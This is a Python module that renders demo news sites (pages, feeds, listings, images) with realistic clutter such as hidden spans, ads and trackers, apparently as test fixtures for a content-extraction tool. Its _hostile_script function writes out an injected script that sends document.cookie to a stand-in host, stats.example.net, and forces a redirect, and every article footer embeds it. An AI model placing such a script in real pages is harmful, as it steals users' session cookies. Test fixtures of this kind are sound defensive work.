"""Render the demo sites into served resources: pages, feeds, listings, images.

Each site dresses its article body in the mess its real-world model carries
(hidden spans, promo blocks, ads, trackers, hostile scripts); the templates in
data/templates/ add the page around it.
"""

from __future__ import annotations

import hashlib
import mimetypes
import posixpath
from collections.abc import Callable
from dataclasses import dataclass
from datetime import UTC, datetime
from email.utils import format_datetime

import jinja2
from markupsafe import Markup

from newsmirror.demosite.content import Block, Channel, Item, Site, data_dir
from newsmirror.demosite.photos import large_photos

# Static files and error pages carry this date, so every response is deterministic.
STATIC_DATE = datetime(2026, 3, 1, tzinfo=UTC)
TRACKER_PATH = "/stats/pixel.gif"


@dataclass(slots=True)
class Resource:
    body: bytes
    content_type: str
    last_modified: datetime
    status: int = 200
    slow: bool = False
    location: str = ""  # where a redirect (status 301) sends the client

    def __post_init__(self) -> None:
        # HTTP dates are whole seconds in GMT.
        self.last_modified = self.last_modified.astimezone(UTC).replace(microsecond=0)

    @property
    def etag(self) -> str:
        return '"' + hashlib.sha1(self.body).hexdigest()[:20] + '"'

    @property
    def compressible(self) -> bool:
        return self.content_type.startswith(("text/", "application/"))


_env = jinja2.Environment(
    loader=jinja2.FunctionLoader(lambda name: data_dir().joinpath("templates", name).read_text("utf-8")),
    autoescape=True,
    keep_trailing_newline=True,
    trim_blocks=True,
    lstrip_blocks=True,
    undefined=jinja2.StrictUndefined,
)


def _short_code(key: str) -> str:
    digest = hashlib.sha1(key.encode()).digest()
    alphabet = "abcdefghijkmnpqrstuvwxyzABCDEFGHJKLMNPQRSTUVWXYZ23456789"
    return "".join(alphabet[b % len(alphabet)] for b in digest[:6])


def _hostile_script(site: str) -> str:
    # What a compromised ad partner injects: cookie theft, a redirect, document.write.
    return (
        "<script>var _c=document.cookie;new Image().src='//stats.example.net/c?s="
        + site
        + "&c='+encodeURIComponent(_c);if(top!==self){top.location='//ads.example.net/'}"
        "document.write('<div class=\"pop\">');</script>"
    )


@dataclass(frozen=True, slots=True)
class _Markup:
    """How a site marks up the blocks it writes like the others: ``{}`` is the block's text."""

    heading: str
    quote: str
    list_attrs: str = ""
    table_attrs: str = ""


_MARKUP = {
    "cgw": _Markup(
        "<h4>{}</h4>",
        '<blockquote style="border-left:3px solid #ccc;padding-left:1em;">{}</blockquote>',
        ' style="margin-left:2em;color:#333"',
        ' border="1" cellpadding="4" style="border-collapse:collapse;width:100%"',
    ),
    "shanhai": _Markup(
        '<h3 style="font-size:17px;font-weight:bold;">{}</h3>',
        '<blockquote><font color="#555555">{}</font></blockquote>',
        table_attrs=' class="tb" border="1" style="border-collapse:collapse"',
    ),
    "harbor": _Markup("<h2>{}</h2>", "<blockquote><p>{}</p></blockquote>", table_attrs=' class="data-table"'),
    "qingsong": _Markup("<h3>{}</h3>", "<blockquote>{}</blockquote>"),
}


def _table(rows: list[list[str]], attrs: str = "") -> str:
    head, *body = rows
    out = [f"<table{attrs}>", "<thead><tr>" + "".join(f"<th>{c}</th>" for c in head) + "</tr></thead>", "<tbody>"]
    out += ["<tr>" + "".join(f"<td>{c}</td>" for c in row) + "</tr>" for row in body]
    out += ["</tbody>", "</table>"]
    return "\n".join(out)


def _list(tag: str, items: list[str], attrs: str = "") -> str:
    return f"<{tag}{attrs}>" + "".join(f"<li>{i}</li>" for i in items) + f"</{tag}>"


class Renderer:
    """Renders one site's resources for a server reachable at ``base``."""

    def __init__(self, site: Site, base: str) -> None:
        self.site = site
        self.base = base  # http://127.0.0.1:PORT
        self.host = base.split("://", 1)[1]

    # -- URLs ------------------------------------------------------------

    def url(self, path: str) -> str:
        return self.base + path

    def feed_link(self, item: Item, channel: Channel) -> str:
        if item.link == "relative":
            return posixpath.relpath(item.path, posixpath.dirname(channel.path))
        if item.link == "root":
            return item.path
        return self.url(item.path)

    # -- article bodies -----------------------------------------------------

    def body(self, item: Item) -> str:
        """The article as the site serves it: its blocks in the site's markup and
        mess (one ``_blocks_<site>`` method per site), then the site's footer."""
        return self.text(item) + "\n" + self._footer(item)

    def text(self, item: Item) -> str:
        """The article's own text in the site's markup, without the footer."""
        if item.body_html and not item.blocks:
            return item.body_html  # added or edited at run time, with its own HTML
        render: Callable[[Block], str] = getattr(self, f"_blocks_{self.site.id}")(item)
        return "\n".join(render(block) for block in item.blocks)

    def _footer(self, item: Item) -> str:
        """What follows the article text: source line, short URL, appeals, tracker."""
        return _env.get_template(f"{self.site.id}/footer.html").render(
            code=_short_code(item.key),
            host=self.host,
            tracker=TRACKER_PATH,
            key=item.key,
            script=Markup(_hostile_script(self.site.id)),
        )

    def _shared_block(self, block: Block, item: Item) -> str:
        """The blocks every site writes alike but for its markup: headings, lists, quotes, tables."""
        markup, kind = _MARKUP[self.site.id], block[0]
        if kind == "h":
            return markup.heading.format(block[1])
        if kind in ("ul", "ol"):
            return _list(kind, block[1], markup.list_attrs)
        if kind == "quote":
            return markup.quote.format(block[1])
        if kind == "table":
            return _table(block[1], markup.table_attrs)
        raise ValueError(f"unknown block {kind!r} in {item.key}")

    def _blocks_cgw(self, item: Item) -> Callable[[Block], str]:
        hidden = (
            '<span id="hideid" name="hideid" style="color:red;display:none;"><a href="{}">首发于晨光新闻网</a></span>'
        )
        hidden = hidden.format(self.url("/cgw/"))
        promo = (
            '<div id="txt-mid1-t21-2026" style="display:none;"><p>【晨光推荐】'
            f'<a href="{self.url("/cgw/video/jianghe.html")}">纪录片《江河记忆》在线观看</a> | '
            f'<a href="{self.url("/cgw/books/")}">电子书免费下载</a></p></div>'
        )
        state = {"paragraphs": 0, "images": 0, "promo": False}

        def tagged(text: str) -> str:
            for tag in item.tags:
                link = (
                    f'<ok><a href="/cgw/news/gb/tag/{tag}" target="_blank" '
                    f"onclick=\"cgTrack('tag','{tag}')\">{tag}</a></ok>"
                )
                text = text.replace(tag, link, 1)
            return text

        def render(block: Block) -> str:
            kind = block[0]
            if kind == "p":
                state["paragraphs"] += 1
                if state["paragraphs"] == 1:
                    out = f"<p>{tagged(block[1])}{hidden}</p>"
                    if not any(b[0] == "img" for b in item.blocks):
                        out += promo
                    return out
                if state["paragraphs"] == 3:
                    return (
                        f"<p>{block[1]}</p>"
                        '<div class="ad-box" style="margin:10px 0;text-align:center">广告合作 '
                        '<a href="https://ads.example.net/click?id=cg-728" target="_blank">'
                        f'<img src="//{self.host}/cgw/ad/banner.gif" width="300" height="50" alt="广告"/></a></div>'
                    )
                return f"<p>{block[1]}</p>"
            if kind == "img":
                state["images"] += 1
                file, caption = block[1], block[2]
                # Images alternate between the two ways the real site writes them.
                if (state["images"] + int(item.key)) % 2 == 0:
                    # Protocol-relative, as the real site's image host is written.
                    src = f"//{self.host}{self.site.image_dir}{file}"
                    img = f'<img alt="{caption}" src="{src}" style="height:300px; width:480px"/>'
                else:
                    # Lazy-loaded: the real image is only in data-src.
                    img = (
                        f'<img class="lazy" alt="{caption}" src="/cgw/static/grey.gif" '
                        f'data-src="{self.site.image_dir}{file}"/>'
                    )
                out = (
                    f'<p style="text-align:center">{img}<br>{caption}'
                    f" <a href=\"javascript:openBig('{file}')\">[查看大图]</a>{hidden}</p>"
                )
                if not state["promo"]:
                    state["promo"] = True
                    out += promo
                return out
            return self._shared_block(block, item)

        return render

    def _blocks_shanhai(self, item: Item) -> Callable[[Block], str]:
        state = {"paragraphs": 0}
        depth = item.path.count("/") - 2  # from /shanhai/<channel>/<date>/x.shtml up to /shanhai/

        def render(block: Block) -> str:
            kind = block[0]
            if kind == "p":
                state["paragraphs"] += 1
                text = block[1]
                if state["paragraphs"] == 1 and "，" in text:
                    hidden = '<span class="hide" style="display:none">山海日报版权所有</span>'
                    text = text.replace("，", "，" + hidden, 1)
                out = f'<p style="text-indent:2em;">{text}</p>'
                if state["paragraphs"] == 2:
                    out += (
                        '<div class="gg" style="float:right;margin:0 0 10px 10px">'
                        f'<iframe src="//{self.host}/shanhai/ad/frame.html" width="300" height="250" frameborder="0"'
                        ' scrolling="no"></iframe><script src="//ads.example.net/show.js?slot=sh1"></script></div>'
                    )
                return out
            if kind == "img":
                src = "../" * depth + "img/" + block[1]
                return (
                    f'<p class="f_center" style="text-align:center"><img src="{src}" alt="{block[2]}" width="550"/>'
                    f'<br/><span style="color:#666;font-size:13px">{block[2]}</span></p>'
                )
            return self._shared_block(block, item)

        return render

    def _blocks_harbor(self, item: Item) -> Callable[[Block], str]:
        state = {"paragraphs": 0, "images": 0}

        def render(block: Block) -> str:
            kind = block[0]
            if kind == "p":
                state["paragraphs"] += 1
                out = f"<p>{block[1]}</p>"
                if state["paragraphs"] == 3:
                    out += (
                        '<aside class="newsletter-signup" style="background:#f4f1ea;padding:12px">'
                        "<h3>Sign up for the Harbor Brief</h3><p>The morning's news from the waterfront, in your inbox."
                        '</p><form action="/harbor/newsletter" method="post"><input type="email" name="email" '
                        'placeholder="you@example.com"/><button type="submit" onclick="hpTrack(\'signup\')">'
                        "Sign up</button></form></aside>"
                    )
                return out
            if kind == "img":
                state["images"] += 1
                file, caption = block[1], block[2]
                if (state["images"] + len(item.key)) % 2 == 0:
                    img = f'<img src="{self.site.image_dir}{file}" alt="{caption}" width="720" height="450"/>'
                else:
                    img = (
                        f'<img src="/harbor/static/grey.gif" data-src="{self.site.image_dir}{file}" '
                        f'alt="{caption}" class="lazyload"/>'
                    )
                return f"<figure>{img}<figcaption>{caption}</figcaption></figure>"
            return self._shared_block(block, item)

        return render

    def _blocks_qingsong(self, item: Item) -> Callable[[Block], str]:
        # The body as the feed's content:encoded carries it.
        state = {"paragraphs": 0}

        def render(block: Block) -> str:
            kind = block[0]
            if kind == "p":
                state["paragraphs"] += 1
                if state["paragraphs"] == 1:
                    return (
                        f'<p>{block[1]}<span id="hideid" style="display:none;">首发于青松评论 '
                        f"{self.url('/qingsong/')}</span></p>"
                        '<div id="txt-mid1-qs" style="display:none;"><p>喜欢本文请转发，'
                        f'<a href="{self.url("/qingsong/subscribe.html")}">订阅青松评论</a></p></div>'
                    )
                return f"<p>{block[1]}</p>"
            if kind == "img":
                return (
                    f'<p><img src="//{self.host}{self.site.image_dir}{block[1]}" alt="{block[2]}"/></p>'
                    f'<p style="text-align:center;color:#888"><em>{block[2]}</em></p>'
                )
            return self._shared_block(block, item)

        return render

    # -- pages and feeds ------------------------------------------------------

    def _encode(self, text: str) -> bytes:
        # strict: a character the site's charset cannot hold is a bug in the data.
        return text.encode(self.site.charset)

    def _html(self, text: str, last_modified: datetime, slow: bool = False, status: int = 200) -> Resource:
        # The GBK site's header claims UTF-8 too: that is the situation to handle.
        return Resource(self._encode(text), "text/html; charset=utf-8", last_modified, status, slow)

    def page(self, item: Item, items: list[Item]) -> Resource:
        related = [i for i in items if i.channel == item.channel and i is not item and i.listed][:4]
        text = _env.get_template(f"{self.site.id}/article.html").render(
            site=self.site,
            item=item,
            channel=self.site.channel(item.channel),
            body=Markup(self.body(item)),
            related=related,
            date=item.date,
            base=self.base,
            host=self.host,
        )
        return self._html(text, item.date, slow=item.slow)

    def feed(self, channel: Channel, items: list[Item]) -> Resource:
        updated = max((i.date for i in items), default=STATIC_DATE)
        if channel.kind == "malformed":
            text = _env.get_template("feed-error.html").render(site=self.site, channel=channel)
            return self._html(text, STATIC_DATE)
        entries = [
            {
                "item": item,
                "link": self.feed_link(item, channel),
                "pubdate": format_datetime(item.date),
                "content": Markup(self.body(item)) if channel.full_content else "",
            }
            for item in items
        ]
        kind = "rss" if channel.kind == "rss" else "atom"
        text = _env.get_template(f"{kind}.xml").render(
            site=self.site,
            channel=channel,
            entries=entries,
            encoding="GBK" if self.site.charset == "gbk" else "utf-8",
            home=self.url(self.site.root + "/"),
            feed_url=self.url(channel.path),
            updated=updated,
            build_date=format_datetime(updated),
        )
        ctype = "application/rss+xml" if kind == "rss" else "application/atom+xml"
        return Resource(self._encode(text), f"{ctype}; charset=utf-8", updated)

    def listing(self, channel: Channel, items: list[Item]) -> Resource:
        links = [(posixpath.relpath(i.path, channel.path), i) for i in items]
        text = _env.get_template(f"{self.site.id}/listing.html").render(
            site=self.site, channel=channel, links=links, base=self.base
        )
        return self._html(text, max((i.date for i in items), default=STATIC_DATE))

    def home(self, items: list[Item]) -> Resource:
        text = _env.get_template("site-home.html").render(
            site=self.site, items=[i for i in items if i.listed][:20], base=self.base
        )
        return self._html(text, max((i.date for i in items), default=STATIC_DATE))

    def resources(self, items: list[Item]) -> dict[str, Resource]:
        out: dict[str, Resource] = {self.site.root + "/": self.home(items)}
        for channel in self.site.channels:
            in_channel = [i for i in items if i.channel == channel.id and not i.deleted and not i.unlisted]
            if channel.kind == "listing":
                out[channel.path] = self.listing(channel, in_channel)
            else:
                out[channel.path] = self.feed(channel, in_channel)
        for item in items:
            if item.deleted == "home":
                home = self.url(self.site.root + "/")
                out[item.path] = Resource(b"", "text/html; charset=utf-8", STATIC_DATE, 301, location=home)
            elif item.deleted == "410":
                out[item.path] = Resource(b"<h1>410 Gone</h1>", "text/html; charset=utf-8", STATIC_DATE, 410)
            elif item.deleted or item.missing:
                out[item.path] = not_found_page(item.path)
            else:
                out[item.path] = self.page(item, items)
        return out


def static_resources(sites: list[Site]) -> dict[str, Resource]:
    """Images under every site's image folder, ads, the tracker, placeholders."""
    images = {entry.name: entry.read_bytes() for entry in data_dir().joinpath("images").iterdir() if entry.is_file()}
    images.update(large_photos())

    def image(name: str) -> Resource:
        ctype = mimetypes.guess_type(name)[0] or "application/octet-stream"
        return Resource(images[name], ctype, STATIC_DATE)

    out = {TRACKER_PATH: image("pixel.gif")}
    for site in sites:
        for name in images:
            out[site.image_dir + name] = image(name)
        out[f"{site.root}/static/grey.gif"] = image("grey.gif")
        out[f"{site.root}/ad/banner.gif"] = image("banner.gif")
        out[f"{site.root}/ad/membership.gif"] = image("membership.gif")
    templates = data_dir().joinpath("templates")
    ad_frame = templates.joinpath("shanhai", "ad-frame.html").read_bytes()
    out["/shanhai/ad/frame.html"] = Resource(ad_frame, "text/html; charset=utf-8", STATIC_DATE)
    app_js = templates.joinpath("qingsong", "app.js").read_bytes()
    out["/qingsong/static/app.js"] = Resource(app_js, "application/javascript", STATIC_DATE)
    return out


def index_page(sites: list[Site], base: str) -> Resource:
    text = _env.get_template("index.html").render(sites=sites, base=base)
    return Resource(text.encode("utf-8"), "text/html; charset=utf-8", STATIC_DATE)


def not_found_page(path: str) -> Resource:
    text = _env.get_template("404.html").render(path=path)
    return Resource(text.encode("utf-8"), "text/html; charset=utf-8", STATIC_DATE, status=404)
